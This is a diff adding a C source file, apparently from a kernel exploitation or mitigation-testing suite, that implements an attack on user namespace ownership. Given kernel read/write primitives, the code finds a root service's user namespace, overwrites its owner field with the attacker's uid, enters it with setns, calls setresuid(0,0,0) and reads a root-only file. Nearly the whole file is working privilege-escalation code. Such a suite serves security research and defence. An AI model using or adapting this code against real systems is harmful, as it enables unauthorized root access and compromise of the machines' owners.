@@ -1,0 +1,55 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/* Attack on who owns a user namespace: the attacker enters that of a service of root's. */
+#include <sched.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "creds.h"
+#include "list.h"
+#include "objects.h"
+
+#define FIRST_NS	"init_user_ns"
+#define NS_SIZE		512	/* where in user_namespace its parent may be ... */
+#define NS_LEVEL	8	/* ... and what is behind that: int, then the owner */
+
+static uint64_t find_ns(pid_t pid)
+{
+	uint64_t first = ksymbol(FIRST_NS), slot;
+	struct task own, task;
+
+	if (ktask(0, &own) || ktask(pid, &task) || !first)
+		return 0;
+	slot = find_word(own.cred, CRED_SIZE, first);
+	return slot ? kread64(task.cred + (slot - own.cred)) : 0;
+}
+
+/* As if the service were the attacker's own. */
+static bool enter(uint64_t level, uid_t owner)
+{
+	uint64_t old = kread64(level);
+	int fd = syscall(SYS_pidfd_open, service_pid(), 0);
+	bool entered;
+
+	kwrite64(level, (uint32_t)old | (uint64_t)owner << 32);
+	entered = !setns(fd, CLONE_NEWUSER);
+	kwrite64(level, old);
+	close(fd);
+	return entered;
+}
+
+enum outcome user_ns_owner(void)
+{
+	uint64_t first = ksymbol(FIRST_NS), ns = find_ns(service_pid()), parent;
+	char text[64];
+
+	parent = ns && ns != first ? find_word(ns, NS_SIZE, first) : 0;
+	if (!parent || root_file_says(text, sizeof(text)))
+		return broken("no namespace of the service found, or the file is everybody's");
+	if (!enter(parent + NS_LEVEL, getuid()))
+		return lost("the namespace of the service is not entered");
+	if (setresuid(0, 0, 0) || !root_file_says(text, sizeof(text)))
+		return lost("entered, and %s is not read", ROOT_FILE);
+	return won("owner of the user namespace of pid %d said to be uid %d, who entered it, and is root: %s says \"%s\"",
+		   service_pid(), ATTACKER_UID, ROOT_FILE, text);
+}
